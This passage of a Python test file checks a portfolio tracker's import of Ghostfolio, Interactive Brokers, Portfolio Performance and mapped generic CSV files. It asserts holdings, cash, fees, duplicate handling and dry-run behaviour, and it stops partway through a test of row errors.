"""Known answers for every import format (tests/fixtures/import, figures
from EXPECTED.md), and the import API's promises: dry runs, duplicates,
every error at once, ordering within a day, exchanges, cash tracking and
hostile files.  Every test method is named test_fmt_* (run.py -k fmt)."""
import csv
import io
import os
import json
import re
import unittest
import urllib.parse
from decimal import Decimal, ROUND_HALF_EVEN

import harness
from pf_helpers import User, instrument, count

FIXTURES = os.path.join(harness.ROOT, "tests", "fixtures", "import")

NESTEGG_HEAD = "date,type,symbol,quantity,price,fee,amount,currency,fx_rate,note\n"


def fixture(name):
    with open(os.path.join(FIXTURES, name), "rb") as f:
        return f.read()


def cents(x):
    return str(Decimal(x).quantize(Decimal("0.01"), rounding=ROUND_HALF_EVEN))


class ImportFormats(unittest.TestCase):
    def setUp(self):
        self.stack = harness.shared
        self.u = User(self.stack, "fmt")

    # -- helpers ---------------------------------------------------------

    def make(self, symbol, currency="USD", kind="stock", name=None):
        """The user's own instrument under the file's symbol (manual, so
        nothing needs the internet); returns the symbol as stored."""
        r = self.u.api("POST", "/api/v1/instruments",
                       {"symbol": symbol, "name": name or symbol, "kind": kind,
                        "currency": currency, "source": "manual"})
        self.assertIn(r.status, (200, 201), (symbol, r.status, r.body))
        return r.json["symbol"]

    def imp(self, pid, body, ctype="text/csv", **params):
        q = urllib.parse.urlencode(params)
        return self.u.api("POST", "/api/v1/portfolios/%d/import%s" % (pid, "?" + q if q else ""),
                          body, ctype)

    def txcount(self, pid):
        return count(self.stack, "SELECT COUNT(*) FROM transactions WHERE portfolio_id = %d" % pid)

    def eur_usd(self, rate="1.1"):
        self.assertEqual(self.stack.cli("fx", "set", "EUR", "USD", rate).returncode, 0)

    def rate_used(self, pid, currency):
        rows = self.stack.sql("SELECT DISTINCT fx_rate FROM transactions WHERE portfolio_id = %d "
                              "AND currency = '%s'" % (pid, currency))
        self.assertEqual(len(rows), 1, rows)
        return Decimal(rows[0][0])

    @staticmethod
    def by_symbol(items):
        return {x["symbol"].upper(): x for x in items}

    @staticmethod
    def cash_of(items):
        return {x["currency"]: x["balance"] for x in items}

    def assert_holdings(self, got, want):
        """got: holdings [{symbol, quantity, cost}]; want: {SYMBOL: (qty, cost)}."""
        h = self.by_symbol(got)
        self.assertEqual(sorted(h), sorted(want), got)
        for sym, (qty, cost) in want.items():
            self.assertEqual(Decimal(h[sym]["quantity"]), Decimal(qty), (sym, h[sym]))
            self.assertEqual(h[sym]["cost"], cost, (sym, h[sym]))

    def ok(self, r):
        self.assertEqual(r.status, 200, r.body[:3000])
        return r.json

    # -- Ghostfolio ------------------------------------------------------

    def gf_instruments(self, v3=False):
        for s in ("VTI", "MSFT", "AMZN", "TSLA"):
            self.make(s, "USD")
        self.make("SAP.DE", "EUR")
        if v3:
            house = self.make("1e7b87c3-5ac9-45d8-9c79-6ae4087d1871", "USD", "other",
                              "Penthouse Apartment")
            debt = self.make("72fac8dc-05e5-497b-8ef7-16a723455396", "USD", "liability",
                             "Mortgage")
        else:
            house = self.make("Penthouse Apartment", "USD", "other")
            debt = self.make("Mortgage", "USD", "liability")
        # A name keeps its case and spaces; a 36-character UUID is a ticker.
        self.assertEqual(len(house), 36 if v3 else len("Penthouse Apartment"))
        return house.upper(), debt.upper()

    def check_ghostfolio(self, pid, j, house, debt, rate):
        self.assertEqual(j["rows"], 13)
        self.assertEqual(j["imported"], 13)
        self.assertEqual(j["duplicates"], 0)
        # MSFT's 237.8000030517578 and AMZN's 0.3333333333333333: 12 places.
        self.assertEqual(j["rounded"], 2)
        # No deposits into a new portfolio: cash tracking goes off.
        self.assertTrue(j["cash_tracking_off"])
        self.assert_holdings(j["holdings"], {
            "VTI": ("6", "1200.60"),            # FIFO incl. fees (Ghostfolio: 1200.00)
            "MSFT": ("2", "475.60"),
            "AMZN": ("0.333333333333", "50.00"),
            "TSLA": ("0", "0.00"),
            "SAP.DE": ("3", cents(Decimal("364.00") * rate)),   # 361.50 + 2.50 EUR
            house: ("1", "500000.00"),
            debt: ("1", "350000.00"),
        })
        v = j["portfolio"]
        h = self.by_symbol(v["holdings"])
        self.assertEqual(h["VTI"]["realized"], "38.60")
        self.assertEqual(h["TSLA"]["realized"], "23.00")
        self.assertEqual(h["VTI"]["income"], "5.10")
        self.assertEqual(h["SAP.DE"]["income"], cents(Decimal("6.60") * rate))
        self.assertEqual(h[debt]["kind"], "liability")
        t = v["totals"]
        self.assertEqual(t["income"], cents(Decimal("17.44") + Decimal("6.60") * rate))
        self.assertEqual(t["fees"], cents(Decimal("53") + Decimal("2.50") * rate))
        # Cash: nestegg derives it from the activities (Ghostfolio's screens
        # show the typed account balances 3303.84 USD / 642.60 EUR, which
        # nestegg does not read): 0 - 1696.16 USD, -364 + 6.60 EUR.  The
        # penthouse (ITEM, or a MANUAL buy outside any account) is
        # brought in: it costs no cash.
        usd = "-1696.16"
        self.assertEqual(self.cash_of(j["cash"]), {"USD": usd, "EUR": "-357.40"})
        self.assertEqual(v["cash"], [])         # tracking is off

    def test_fmt_ghostfolio_json_legacy(self):
        pid = self.u.portfolio("GF", "USD")
        body = fixture("ghostfolio.json")
        r = self.imp(pid, body, "application/json")
        self.assertEqual(r.status, 422, r.body[:2000])
        e = r.json["error"]
        unknown = {u["symbol"]: u for u in e["unknown_symbols"]}
        self.assertEqual(sorted(unknown), sorted(["Penthouse Apartment", "Mortgage", "VTI", "MSFT",
                                                  "AMZN", "SAP.DE", "TSLA"]))
        self.assertEqual(unknown["VTI"]["rows"], 3)
        self.assertEqual(unknown["TSLA"]["rows"], 2)
        self.assertEqual((unknown["Mortgage"]["kind"], unknown["Mortgage"]["source"]),
                         ("liability", "manual"))
        self.assertEqual(unknown["Penthouse Apartment"]["source"], "manual")
        self.assertEqual((unknown["SAP.DE"]["currency"], unknown["SAP.DE"]["source"]),
                         ("EUR", "yahoo"))
        self.assertEqual(self.txcount(pid), 0)
        house, debt = self.gf_instruments()
        self.eur_usd()
        j = self.ok(self.imp(pid, body, "application/json"))
        self.assertEqual(j["format"], "ghostfolio")
        # ITEM and LIABILITY: held, no cash (transfer_in).
        self.assertEqual(j["per_type"], {"buy": 5, "sell": 2, "dividend": 2, "interest": 1,
                                         "fee": 1, "transfer_in": 2})
        self.check_ghostfolio(pid, j, house, debt, self.rate_used(pid, "EUR"))
        # The TSLA sell listed before its buy: ordered by the timestamps.
        self.assertEqual(self.stack.sql("SELECT type, TIME_FORMAT(time, '%%H:%%i') FROM "
                                        "transactions WHERE portfolio_id = %d AND note LIKE "
                                        "'day trade%%' ORDER BY time" % pid),
                         [["buy", "13:35"], ["sell", "19:50"]])

    def test_fmt_ghostfolio_json_v3(self):
        pid = self.u.portfolio("GF3", "USD")
        body = fixture("ghostfolio_v3.json")
        r = self.imp(pid, body, "application/json")
        self.assertEqual(r.status, 422, r.body[:2000])
        unknown = {u["symbol"]: u for u in r.json["error"]["unknown_symbols"]}
        # Names from assetProfiles; fee and interest need no instrument.
        self.assertEqual(unknown["1e7b87c3-5ac9-45d8-9c79-6ae4087d1871"]["name"],
                         "Penthouse Apartment")
        self.assertEqual(unknown["72fac8dc-05e5-497b-8ef7-16a723455396"]["name"], "Mortgage")
        self.assertEqual(len(unknown), 7, sorted(unknown))
        house, debt = self.gf_instruments(v3=True)
        self.eur_usd()
        j = self.ok(self.imp(pid, body, "application/json"))
        self.assertEqual(j["format"], "ghostfolio")
        # The penthouse, a MANUAL buy outside any account, is brought in
        # (transfer_in) like the legacy ITEM: the figures equal
        # ghostfolio.json's, as EXPECTED.md says.
        self.assertEqual(j["per_type"], {"buy": 5, "sell": 2, "dividend": 2, "interest": 1,
                                         "fee": 1, "transfer_in": 2})
        self.check_ghostfolio(pid, j, house, debt, self.rate_used(pid, "EUR"))

    def test_fmt_ghostfolio_csv(self):
        pid = self.u.portfolio("GFCSV", "USD")
        house, debt = self.gf_instruments()
        self.eur_usd()
        j = self.ok(self.imp(pid, fixture("ghostfolio.csv")))
        self.assertEqual(j["format"], "ghostfolio-csv")
        self.assertEqual(j["per_type"], {"buy": 5, "sell": 2, "dividend": 2, "interest": 1,
                                         "fee": 1, "transfer_in": 2})
        self.check_ghostfolio(pid, j, house, debt, self.rate_used(pid, "EUR"))
        dates = self.stack.sql("SELECT DATE_FORMAT(t.date, '%%Y-%%m-%%d') FROM transactions t "
                               "JOIN instruments i ON i.id = t.instrument_id WHERE "
                               "t.portfolio_id = %d AND i.symbol = 'MSFT'" % pid)
        self.assertEqual(dates, [["2023-02-01"]])       # 01/02/2023 is 1 Feb

    # -- Interactive Brokers -------------------------------------------------

    def check_ibkr(self, name):
        pid = self.u.portfolio("IB " + name, "USD")
        body = fixture(name)
        r = self.imp(pid, body)
        self.assertEqual(r.status, 422, r.body[:2000])
        unknown = {u["symbol"]: u for u in r.json["error"]["unknown_symbols"]}
        self.assertEqual(sorted(unknown), ["AAPL", "SAP", "TSLA", "VTI"])
        self.assertEqual((unknown["SAP"]["isin"], unknown["SAP"]["currency"]),
                         ("DE0007164600", "EUR"))
        for s in ("VTI", "AAPL", "TSLA"):
            self.make(s, "USD")
        self.make("SAP", "EUR")
        self.eur_usd()
        j = self.ok(self.imp(pid, body))
        self.assertEqual(j["format"], "ibkr")
        self.assertEqual((j["rows"], j["imported"]), (8, 8))
        self.assertEqual(j["per_type"], {"buy": 4, "sell": 3, "exchange": 1})
        rate = self.rate_used(pid, "EUR")
        self.assert_holdings(j["holdings"], {
            "VTI": ("6", "1411.32"),
            "AAPL": ("12", "2226.61"),
            "TSLA": ("0", "0.00"),
            "SAP": ("5", cents(Decimal("865") * rate)),
        })
        # The EUR.USD trade: +1000 EUR for 1081.20 + 2 USD.
        self.assertEqual(self.cash_of(j["cash"]), {"USD": "-4617.48", "EUR": "135.00"})
        h = self.by_symbol(j["portfolio"]["holdings"])
        self.assertEqual(h["VTI"]["realized"], "18.12")
        self.assertEqual(h["AAPL"]["realized"], "52.58")
        self.assertEqual(h["TSLA"]["realized"], "32.95")
        self.assertTrue(j["cash_tracking_off"])
        times = self.stack.sql("SELECT TIME_FORMAT(time, '%%H:%%i:%%s') FROM transactions "
                               "WHERE portfolio_id = %d AND type = 'exchange'" % pid)
        self.assertEqual(times, [["09:15:00"]])

    def test_fmt_ibkr_trades(self):
        self.check_ibkr("ibkr_trades.csv")

    def test_fmt_ibkr_sections(self):
        self.check_ibkr("ibkr_trades_sections.csv")

    # -- Portfolio Performance ---------------------------------------------

    def pp_instruments(self):
        self.make("EUNL.DE", "EUR", "etf")
        self.make("AAPL", "USD")
        self.make("ALV.DE", "EUR")
        self.make("SIE.DE", "EUR")

    def test_fmt_pp_account_then_portfolio(self):
        pid = self.u.portfolio("PP", "EUR")
        self.pp_instruments()
        j = self.ok(self.imp(pid, fixture("pp_account.csv")))
        self.assertEqual(j["format"], "pp")
        # The dividend's withheld tax is a row of its own.
        self.assertEqual(j["imported"], 13)
        self.assertEqual(j["per_type"], {"deposit": 1, "buy": 3, "sell": 1, "dividend": 1,
                                         "tax": 2, "interest": 2, "fee": 2, "withdrawal": 1})
        self.assertFalse(j["cash_tracking_off"])
        self.assert_holdings(j["holdings"], {"EUNL.DE": ("6", "902.34"),
                                             "AAPL": ("5", "856.00"),
                                             "ALV.DE": ("4", "1006.00")})
        self.assertEqual(self.cash_of(j["cash"]), {"EUR": "6807.09"})
        t = j["portfolio"]["totals"]
        self.assertEqual(t["cash"], "6807.09")
        # EXPECTED.md's 28.79 fees + the 4.10 interest charge, a fee in nestegg.
        self.assertEqual(t["fees"], "32.89")
        self.assertEqual(t["taxes"], "17.81")            # 14.56 + 3.25 (refund is income)
        self.assertEqual(t["income"], "68.79")           # 55.20 + 12.34 + 1.25
        self.assertEqual(self.by_symbol(j["portfolio"]["holdings"])["EUNL.DE"]["realized"],
                         "34.54")
        before = self.txcount(pid)
        # The portfolio file repeats the four buys and sells.
        port = fixture("pp_portfolio.csv")
        r = self.imp(pid, port)
        self.assertEqual(r.status, 409, r.body[:2000])
        self.assertEqual(r.json["error"]["duplicates"], 4)
        self.assertIn("duplicates=skip", r.json["error"]["message"])
        j = self.ok(self.imp(pid, port, dry_run=1))
        self.assertEqual((j["duplicates"], j["to_import"], j["imported"]), (4, 2, 0))
        self.assertEqual(self.txcount(pid), before)
        j = self.ok(self.imp(pid, port, duplicates="skip"))
        self.assertEqual((j["duplicates"], j["imported"]), (4, 2))
        self.assertEqual(j["per_type"], {"transfer_in": 1, "transfer_out": 1})
        self.assertEqual(self.txcount(pid), before + 2)
        self.assert_holdings(j["holdings"], {"ALV.DE": ("3", "754.50"),
                                             "SIE.DE": ("2.5", "340.00")})
        h = self.by_symbol(j["portfolio"]["holdings"])
        self.assertEqual((h["EUNL.DE"]["quantity"], h["EUNL.DE"]["cost"]), ("6", "902.34"))
        self.assertEqual((h["AAPL"]["quantity"], h["AAPL"]["cost"]), ("5", "856.00"))
        # Deliveries move no cash.
        self.assertEqual(self.cash_of(j["cash"]), {"EUR": "6807.09"})

    def test_fmt_pp_portfolio_en_and_de(self):
        self.pp_instruments()
        want = {"EUNL.DE": ("6", "902.34"), "AAPL": ("5", "856.00"),
                "ALV.DE": ("3", "754.50"), "SIE.DE": ("2.5", "340.00")}
        views = []
        for name in ("pp_portfolio.csv", "pp_portfolio_de.csv"):
            pid = self.u.portfolio(name, "EUR")
            j = self.ok(self.imp(pid, fixture(name)))
            self.assertEqual(j["format"], "pp", name)
            self.assertEqual(j["imported"], 6, name)
            self.assertEqual(j["per_type"], {"buy": 3, "sell": 1, "transfer_in": 1,
                                             "transfer_out": 1}, name)
            self.assert_holdings(j["holdings"], want)
            self.assertTrue(j["cash_tracking_off"])
            h = self.by_symbol(j["portfolio"]["holdings"])
            self.assertEqual(h["EUNL.DE"]["realized"], "34.54")
            self.assertEqual(j["portfolio"]["totals"]["fees"], "18.80")
            views.append((j["portfolio"]["holdings"], j["cash"]))
        self.assertEqual(views[0], views[1])
        notes = self.stack.sql("SELECT note FROM transactions WHERE portfolio_id = %d AND "
                               "type = 'transfer_in'" % pid)
        self.assertEqual(notes, [["\u00dcbertrag von alter Bank"]])

    # -- generic CSV through a column mapping ------------------------------

    def test_fmt_generic_mapping(self):
        pid = self.u.portfolio("Generic", "EUR")
        body = fixture("generic.csv")
        r = self.imp(pid, body)
        self.assertEqual(r.status, 422, r.body[:2000])
        self.assertIn("choose them once on the import page", r.json["error"]["message"])
        self.assertEqual(self.txcount(pid), 0)
        self.u.c.get("/portfolios/%d/import" % pid)
        r = self.u.c.post("/portfolios/%d/import" % pid, {"text": body.decode(), "format": "auto"})
        self.assertEqual(r.status, 303, r.body[-500:])
        draft = r.header("location")
        m = re.search(r"/portfolios/%d/import/\d+$" % pid, draft)
        self.assertTrue(m, draft)
        draft = m.group(0)
        r = self.u.c.get(draft)
        self.assertEqual(r.status, 200)
        self.assertIn("Cost per piece", harness.page_text(r.text))
        # Its header names nothing nestegg's words or their translations
        # know: no column is chosen for it.
        self.assertNotIn(" selected>", r.text.split("Type of every row")[0])
        # A German header's columns are chosen before the user does.
        self.u.c.get("/portfolios/%d/import" % pid)
        r = self.u.c.post("/portfolios/%d/import" % pid,
                          {"text": "Datum;Typ;Wertpapier;Stück;Kurs;Betrag\n"
                                   "02.01.2024;Kauf;SAP;5;10;50\n", "format": "auto"})
        self.assertEqual(r.status, 303)
        r = self.u.c.get(r.header("location"))
        self.assertEqual(harness.validate_html(r.text), "")
        for field, col, name in (("date", 0, "Datum"), ("type", 1, "Typ"),
                                 ("symbol", 2, "Wertpapier"), ("quantity", 3, "Stück"),
                                 ("price", 4, "Kurs"), ("amount", 5, "Betrag")):
            select = re.search(r'<select id="col-%s".*?</select>' % field, r.text, re.S).group(0)
            self.assertIn('<option value="%d" selected>%s</option>' % (col, name), select)
        fields = {"action": "columns", "date": "0", "type": "1", "symbol": "2",
                  "quantity": "3", "price": "4", "fee": "5", "style": "comma"}
        r = self.u.c.post(draft, fields)
        self.assertEqual(r.status, 303, harness.page_text(r.text)[-800:])
        r = self.u.c.get(draft)
        self.assertEqual(r.status, 422)                 # unknown symbols now
        for s in ("SAP", "ALV", "BAS", "RHM"):
            self.assertIn(s, harness.page_text(r.text))
            self.make(s, "EUR")
        r = self.u.c.get(draft)
        self.assertEqual(r.status, 200, harness.page_text(r.text)[-800:])
        r = self.u.c.post(draft, {"action": "import", "duplicates": "skip"})
        self.assertEqual(r.status, 303, harness.page_text(r.text)[-800:])
        self.assertIn("imported=8", r.header("location"))
        self.assertEqual(self.txcount(pid), 8)
        want = {"SAP": ("3", "453.57"), "ALV": ("0", "0.00"), "BAS": ("20.5", "940.00"),
                "RHM": ("2", "2304.95")}
        h = self.by_symbol(self.u.view(pid)["holdings"])
        for sym, (qty, cost) in want.items():
            self.assertEqual((Decimal(h[sym]["quantity"]), h[sym]["cost"]), (Decimal(qty), cost))
        self.assertEqual(h["SAP"]["realized"], "271.72")
        self.assertEqual(h["ALV"]["realized"], "63.60")
        self.assertEqual(self.u.view(pid)["totals"]["fees"], "36.65")
        # The mapping is remembered: the API now imports the same file.
        other = self.u.portfolio("Generic API", "EUR")
        j = self.ok(self.imp(other, body))
        self.assertEqual(j["format"], "generic")
        self.assert_holdings(j["holdings"], want)

    DUTCH = ("Rekening;NL01BANK0123;Export;2024\n"
             "Periode;01-01-2024;31-12-2024;EUR\n"
             "Datum;Soort;Fonds;Aantal;Koers;Kosten;Bedrag\n"
             "03/02/2024;Storting;;;;;\"1.000,00\"\n"
             "04/02/2024;Koop Pro;NLMAP;2;\"300,50\";\"-2,00\";\n"
             "05/02/2024;Rente;;;;;\"1,25\"\n"
             "06/02/2024;Verkoop Pro;NLMAP;1;\"310,00\";\"2,00\";\n"
             "Totaal;;;;;;\"1.001,25\"\n")

    def test_a_mapping_reads_words_lines_and_dates_and_is_listed(self):
        """The page's mapping: each type word chosen (one skipped), the
        lines before the header and the footer left out, the dates said
        day first; the first rows shown as read; saved, listed, used by
        the API, and deleted."""
        self.make("NLMAP", "EUR")
        pid = self.u.portfolio("Mapped", "EUR")
        self.u.c.get("/portfolios/%d/import" % pid)
        r = self.u.c.post("/portfolios/%d/import" % pid, {"text": self.DUTCH, "format": "auto"})
        self.assertEqual(r.status, 303, r.body[-500:])
        draft = re.search(r"/portfolios/\d+/import/\d+$", r.header("location")).group(0)
        r = self.u.c.get(draft)
        self.assertEqual(r.status, 200)
        self.assertEqual(harness.validate_html(r.text), "")
        self.assertIn("How to read this file", r.text)
        fields = {"date": "0", "type": "1", "symbol": "2", "quantity": "3", "price": "4",
                  "fee": "5", "amount": "6", "style": "comma", "dates": "auto",
                  "skip_lines": "2", "footer_lines": "1", "every": ""}
        r = self.u.c.post(draft, dict(fields, action="preview"))
        self.assertEqual(r.status, 200, harness.page_text(r.text)[-800:])
        self.assertEqual(harness.validate_html(r.text), "")
        # The header is read again from line 3: its columns guessed.
        self.assertIn('<option value="0" selected>Datum</option>', r.text)
        text = harness.page_text(r.text)
        # Read from line 3 on: its words are listed, those nestegg knows
        # (Storting, Rente) read as it guesses, the others to choose.
        words = re.findall(r'name="word_(\d+)" value="([^"]*)"', r.text)
        self.assertEqual(sorted(w for _, w in words),
                         ["Koop Pro", "Rente", "Storting", "Verkoop Pro"])
        self.assertIn("(choose)", r.text)
        # Every date here could be day or month first: asked.
        self.assertIn("none of them says which", text)
        self.assertNotIn("Totaal", r.text.split("The first rows, as they will be read")[1])
        choice = {w: t for w, t in (("Storting", "deposit"), ("Koop Pro", "buy"),
                                    ("Rente", "skip"), ("Verkoop Pro", "sell"))}
        for i, w in words:
            fields["word_" + i] = w
            fields["type_" + i] = choice[w]
        fields["dates"] = "dmy"
        fields["read_lines"] = "2"      # the form as shown: columns kept
        r = self.u.c.post(draft, dict(fields, action="preview"))
        self.assertEqual(r.status, 200)
        sample = r.text.split("The first rows, as they will be read")[1].split("</table>")[0]
        rows = [harness.page_text(x) for x in re.findall(r"<tr>(.*?)</tr>", sample, re.S)][1:]
        self.assertEqual(len(rows), 4, rows)
        self.assertIn("2024-02-03", rows[0])
        self.assertIn("deposit", rows[0])
        self.assertIn("1000", rows[0])
        self.assertIn("buy", rows[1])
        self.assertIn("300.5", rows[1])
        self.assertIn("skipped", rows[2])
        self.assertIn("sell", rows[3])
        r = self.u.c.post(draft, dict(fields, action="columns"))
        self.assertEqual(r.status, 303, harness.page_text(r.text)[-800:])
        r = self.u.c.get(draft)
        self.assertEqual(r.status, 200, harness.page_text(r.text)[-800:])
        self.assertIn("Read with the mapping you saved", r.text)
        # The saved mapping shows again, to change.
        r2 = self.u.c.get(draft + "?change=1")
        self.assertIn('<option value="dmy" selected>', r2.text)
        r = self.u.c.post(draft, {"action": "import", "duplicates": "skip"})
        self.assertEqual(r.status, 303, harness.page_text(r.text)[-800:])
        self.assertIn("imported=3", r.header("location"))
        h = self.by_symbol(self.u.view(pid)["holdings"])
        self.assertEqual((Decimal(h["NLMAP"]["quantity"]), h["NLMAP"]["cost"]),
                         (Decimal("1"), "301.50"))
        self.assertEqual(self.u.view(pid)["totals"]["fees"], "4.00")
        # Listed on the import page, and through the API.
        page = self.u.c.get("/portfolios/%d/import" % pid)
        self.assertEqual(harness.validate_html(page.text), "")
        self.assertIn("Saved mappings", page.text)
        self.assertIn('&quot;Rente&quot; as skip', page.text)
        listed = self.u.api("GET", "/api/v1/import/mappings").json
        mine = [m for m in listed if m["header"][:2] == ["Datum", "Soort"]]
        self.assertEqual(len(mine), 1, listed)
        self.assertEqual(mine[0]["mapping"]["types"]["Rente"], "skip")
        self.assertEqual(mine[0]["mapping"]["skip_lines"], 2)
        # The API reads the same file with it, and says so.
        other = self.u.portfolio("Mapped API", "EUR")
        r = self.imp(other, self.DUTCH.encode(), dry_run=1)
        j = self.ok(r)
        self.assertIsNotNone(j, r.body[:2000])
        self.assertEqual(j["format"], "generic")
        self.assertEqual(j["mapping_id"], mine[0]["id"])
        self.assertEqual(j["to_import"], 3)
        self.assertEqual(len(j["skipped"]), 1)
        # Deleted from the page: gone, and the file needs a mapping again.
        href = re.search(r'<form method="post" action="(/portfolios/\d+/import/mappings/%d)"'
                         % mine[0]["id"], page.text).group(1)
        self.assertEqual(self.u.c.post(href, {"action": "delete"}).status, 303)
        self.assertEqual(self.u.c.post(href, {"action": "delete"}).status, 303)
        self.assertNotIn(mine[0]["id"], [m["id"] for m in
                                         self.u.api("GET", "/api/v1/import/mappings").json])
        r = self.imp(other, self.DUTCH.encode(), dry_run=1)
        self.assertEqual(r.status, 422, r.body)
        self.assertEqual(r.json["error"]["header"][0], "Rekening")
        self.assertIn("columns", r.json["error"]["mapping"])

    def test_the_api_takes_and_returns_a_mapping(self):
        self.make("NLAPI", "EUR")
        pid = self.u.portfolio("API mapping", "EUR")
        body = self.DUTCH.replace("NLMAP", "NLAPI").encode()
        mapping = {"columns": {"date": "Datum", "type": "Soort", "symbol": "Fonds",
                               "quantity": "Aantal", "price": "Koers", "fee": "Kosten",
                               "amount": "Bedrag"},
                   "numbers": "comma", "dates": "dmy", "skip_lines": 2, "footer_lines": 1,
                   "types": {"Koop Pro": "buy", "Verkoop Pro": "sell", "Rente": "skip"}}
        j = self.ok(self.imp(pid, body, dry_run=1, mapping=json.dumps(mapping)))
        self.assertEqual(j["mapping"]["types"], mapping["types"])
        self.assertEqual(j["mapping"]["columns"]["date"], "Datum")
        self.assertEqual({w["word"]: w["type"] for w in j["words"]},
                         {"Storting": "deposit", "Koop Pro": "buy", "Rente": "skip",
                          "Verkoop Pro": "sell"})
        self.assertEqual(self.txcount(pid), 0)
        # A mapping that is none: refused with its reason, nothing written.
        for bad, why in (({"columns": {"date": 0}}, "no type column"),
                         (dict(mapping, types={"Koop": "purchase"}), "types.Koop"),
                         (dict(mapping, colour=1), "no \"colour\""),
                         (dict(mapping, columns=dict(mapping["columns"], type="Typ")),
                          "\"Typ\" is not in the file's header")):
            r = self.imp(pid, body, mapping=json.dumps(bad))
            self.assertEqual(r.status, 422, (bad, r.body))
            self.assertIn(why, r.json["error"]["message"])
        r = self.imp(pid, body, mapping="{not json")
        self.assertEqual(r.status, 422)
        self.assertEqual(self.txcount(pid), 0)
        # Imported with it: remembered for the header.
        j = self.ok(self.imp(pid, body, mapping=json.dumps(mapping)))
        self.assertEqual(j["imported"], 3)
        listed = self.u.api("GET", "/api/v1/import/mappings").json
        mine = [m for m in listed if m["mapping"]["types"].get("Koop Pro") == "buy"]
        self.assertEqual(len(mine), 1, listed)
        one = self.u.api("GET", "/api/v1/import/mappings/%d" % mine[0]["id"])
        self.assertEqual(one.status, 200)
        self.assertEqual(one.json["mapping"]["dates"], "dmy")
        # Another user sees none of it, and cannot delete it.
        other = User(self.stack, "fmt-other")
        self.assertEqual(other.api("GET", "/api/v1/import/mappings").json, [])
        self.assertEqual(other.api("DELETE", "/api/v1/import/mappings/%d"
                                   % mine[0]["id"]).status, 404)
        self.assertEqual(self.u.api("DELETE", "/api/v1/import/mappings/%d"
                                    % mine[0]["id"]).status, 204)
        self.assertEqual(self.u.api("GET", "/api/v1/import/mappings/%d"
                                    % mine[0]["id"]).status, 404)

    # -- the API's promises ------------------------------------------------

    def test_fmt_dry_run_writes_nothing(self):
        a = instrument(self.u)
        pid = self.u.portfolio("Dry", "USD")
        body = NESTEGG_HEAD + ("2024-01-01,deposit,,,,,1000,USD,,\n"
                               "2024-01-02,buy,%s,10,10,1,,,,\n"
                               "2024-01-03,sell,%s,4,12,,,,,\n" % (a, a))
        j = self.ok(self.imp(pid, body, dry_run=1))
        self.assertTrue(j["dry_run"])
        self.assertEqual((j["imported"], j["to_import"]), (0, 3))
        self.assertNotIn("portfolio", j)
        self.assertEqual(self.txcount(pid), 0)
        self.assertEqual(self.u.view(pid)["holdings"], [])
        w = self.ok(self.imp(pid, body))
        self.assertFalse(w["dry_run"])
        self.assertEqual((w["imported"], w["to_import"]), (3, 3))
        for k in ("per_type", "holdings", "cash", "rows", "rounded", "cash_tracking_off"):
            self.assertEqual(j[k], w[k], k)
        self.assertEqual(self.txcount(pid), 3)

    def test_fmt_bad_parameters(self):
        pid = self.u.portfolio("Params", "USD")
        body = NESTEGG_HEAD + "2024-01-01,deposit,,,,,10,USD,,\n"
        r = self.imp(pid, body, format="quicken")
        self.assertEqual(r.status, 422, r.body)
        self.assertIn("Unknown format", r.json["error"]["message"])
        r = self.imp(pid, body, duplicates="maybe")
        self.assertEqual(r.status, 422, r.body)
        r = self.imp(pid, body, "application/xml")
        self.assertEqual(r.status, 415, r.body)
        r = self.imp(pid, body, format="ibkr")
        self.assertEqual(r.status, 422, r.body)
        self.assertIn("column is missing", r.json["error"]["message"])
        self.assertEqual(self.txcount(pid), 0)
        j = self.ok(self.imp(pid, body, "text/plain", format="nestegg"))
        self.assertEqual((j["format"], j["imported"]), ("nestegg", 1))

    def test_fmt_long_symbols_with_spaces(self):
        pid = self.u.portfolio("Long", "USD")
        long_sym = "Fund " + "x" * 59                   # 64 characters
        house = "Holiday Flat %d" % os.getpid()
        self.assertEqual(self.make(long_sym, "USD", "fund"), long_sym)
        self.assertEqual(self.make(house, "USD", "other"), house)
        r = self.u.api("POST", "/api/v1/instruments", {"symbol": long_sym + "y", "name": "n",
                                                       "kind": "fund", "currency": "USD",
                                                       "source": "manual"})
        self.assertEqual((r.status, r.json["error"]["field"]), (422, "symbol"))
        body = NESTEGG_HEAD + ("2024-01-02,buy,%s,2,10,,,,,\n"
                               "2024-01-03,transfer_in,\"%s\",1,250000,,,,,\n" % (long_sym, house))
        j = self.ok(self.imp(pid, body))
        self.assert_holdings(j["holdings"], {long_sym.upper(): ("2", "20.00"),
                                             house.upper(): ("1", "250000.00")})

    def test_fmt_same_file_twice(self):
        a = instrument(self.u)
        pid = self.u.portfolio("Twice", "USD")
        body = NESTEGG_HEAD + ("2024-01-02,buy,%s,10,10,1,,,,\n"
                               "2024-01-03,dividend,%s,,,,5,,,\n" % (a, a))
        self.ok(self.imp(pid, body))
        r = self.imp(pid, body)
        self.assertEqual(r.status, 409, r.body)
        self.assertEqual(r.json["error"]["duplicates"], 2)
        self.assertIn("already in the portfolio", r.json["error"]["message"])
        self.assertEqual(self.txcount(pid), 2)
        j = self.ok(self.imp(pid, body, duplicates="skip", dry_run=1))
        self.assertEqual((j["to_import"], j["duplicates"]), (0, 2))
        self.assertIn("Every row is already in the portfolio", j.get("message", ""))
        r = self.imp(pid, body, duplicates="skip")
        # Every row skipped: nothing written; the answer says why.
        self.assertIn("Every row is already in the portfolio", r.body.decode(), r.body)
        self.assertEqual(self.txcount(pid), 2)
        self.assertEqual(r.status, 200, "duplicates=skip, all skipped: %d %s" % (r.status, r.body))

    def test_fmt_duplicates_keep_doubles(self):
        a = instrument(self.u)
        pid = self.u.portfolio("Keep", "USD")
        body = NESTEGG_HEAD + "2024-01-02,buy,%s,10,10,1,,,,\n" % a
        self.ok(self.imp(pid, body))
        j = self.ok(self.imp(pid, body, duplicates="keep"))
        self.assertEqual((j["duplicates"], j["imported"]), (1, 1))
        self.assert_holdings(j["holdings"], {a.upper(): ("20", "202.00")})
        self.assertEqual(self.txcount(pid), 2)

    def test_fmt_every_error_at_once(self):
        a, b = instrument(self.u), instrument(self.u)
        pid = self.u.portfolio("Errors", "USD")
        body = NESTEGG_HEAD + ("2024-01-02,buy,%s,10,100,,,,,\n"      # 2 good
                               "2024-02-30,buy,%s,1,100,,,,,\n"       # 3 bad date
                               "2024-01-03,buy,NOSUCH1,1,1,,,,,\n"    # 4 unknown
                               "2024-01-04,buy,%s,1,\"12,5\",,,,,\n"  # 5 decimal comma
                               "2024-01-05,buy,%s,2,10,,,,,\n"        # 6 good
                               "2024-01-06,sell,%s,5,10,,,,,\n"       # 7 oversell
                               % (a, a, a, b, b))
        r = self.imp(pid, body)
